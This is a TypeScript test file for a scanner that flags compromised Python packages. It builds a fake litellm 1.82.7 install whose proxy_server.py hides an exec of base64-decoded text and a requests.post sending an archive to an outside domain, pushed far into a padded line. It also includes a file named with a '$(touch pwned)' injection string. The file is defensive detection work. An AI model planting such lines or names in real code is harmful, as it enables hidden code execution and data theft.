import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { PythonEnvironment } from '../../shared/model/index.js';
import { hermeticRunner, SHELLS, tempDir, writeTree } from './fixtures/shell-harness.js';
import { collectHostPython } from './python-collector.js';
import { searchPackageSignatures } from './package-signature-collector.js';

const SITE = 'usr/local/lib/python3.11/site-packages';
// The 1.82.7 shape: the payload inside proxy_server.py, far into a long line, with no .pth at all (never the real payload).
const PROXY_SERVER = `import os\n# proxy code\nX = 1; ${'y = 2; '.repeat(2000)}exec(base64.b64decode(BLOB)); requests.post("https://models.litellm.cloud/", data=open("tpcp.tar.gz","rb"))\n`;

async function installDist(root: string, name: string, version: string, files: Record<string, string>): Promise<void> {
  const folder = `${name}-${version}.dist-info`;
  for (const [relative, content] of Object.entries(files)) await writeTree(root, `${SITE}/${relative}`, content);
  await writeTree(root, `${SITE}/${folder}/METADATA`, `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n`);
  const rows = Object.keys(files).map((relative) => `${/[",]/.test(relative) ? `"${relative.replaceAll('"', '""')}"` : relative},sha256=AAAA,1`);
  await writeTree(root, `${SITE}/${folder}/RECORD`, `${[...rows, `${folder}/METADATA,sha256=AAAA,1`, `${folder}/RECORD,,`].join('\n')}\n`);
}

function site(environments: PythonEnvironment[]): PythonEnvironment {
  return environments.find((environment) => environment.path === `/${SITE}`)!;
}

describe.each(SHELLS)('content signatures on the files of flagged distributions under $name', (shell) => {
  it('finds the payload strings in a flagged distribution\'s module, deep in a long line, in one round trip and without starting python', async () => {
    const dir = await tempDir();
    const root = join(dir, 'root');
    const marker = join(dir, 'interpreter-started');
    await installDist(root, 'litellm', '1.82.7', {
      'litellm/__init__.py': '# clean\n',
      'litellm/proxy/proxy_server.py': PROXY_SERVER,
      'litellm/odd, "name".py': 'URL = "checkmarx.zone"\n',
      'litellm/$(touch pwned).py': '# a name, not a command\n',
    });
    await installDist(root, 'requests', '2.32.3', { 'requests/__init__.py': 'exec(base64.b64decode(x))  # not flagged, so never searched\n' });
    const runner = await hermeticRunner(shell, dir, { marker });
    const { environments } = await collectHostPython(runner, undefined, root);
    let runs = 0;
    const counting = { runScript: (script: string, options?: object) => (runs++, runner.runScript(script, options)) };

    const issues = await searchPackageSignatures(counting, environments, { kind: 'host', root }, (pkg) => pkg.name === 'litellm');

    expect(issues).toEqual([]);
    expect(runs).toBe(1);
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(dir, 'pwned'))).toBe(false);
    const litellm = site(environments).packages.find((pkg) => pkg.name === 'litellm');
    expect(litellm?.contentMatches?.map((file) => file.path)).toEqual(['litellm/odd, "name".py', 'litellm/proxy/proxy_server.py']);
    const proxy = litellm!.contentMatches!.find((file) => file.path === 'litellm/proxy/proxy_server.py')!;
    expect(proxy.signatures.map((hit) => hit.signature).sort()).toEqual(['exec-of-decoded-text', 'litellm-exfil-domain-in-code', 'teampcp-exfil-archive']);
    expect(proxy.signatures.every((hit) => hit.line === 3)).toBe(true);
    expect(site(environments).packages.find((pkg) => pkg.name === 'requests')?.contentMatches).toBeUndefined();
  });

  it('records an empty list for a flagged distribution searched with nothing found', async () => {
    const dir = await tempDir();
    const root = join(dir, 'root');
    await installDist(root, 'litellm', '1.82.6', { 'litellm/__init__.py': '# clean\n' });
    const runner = await hermeticRunner(shell, dir, { marker: join(dir, 'marker') });
    const { environments } = await collectHostPython(runner, undefined, root);

    await searchPackageSignatures(runner, environments, { kind: 'host', root }, () => true);

    expect(site(environments).packages[0]?.contentMatches).toEqual([]);
  });
});
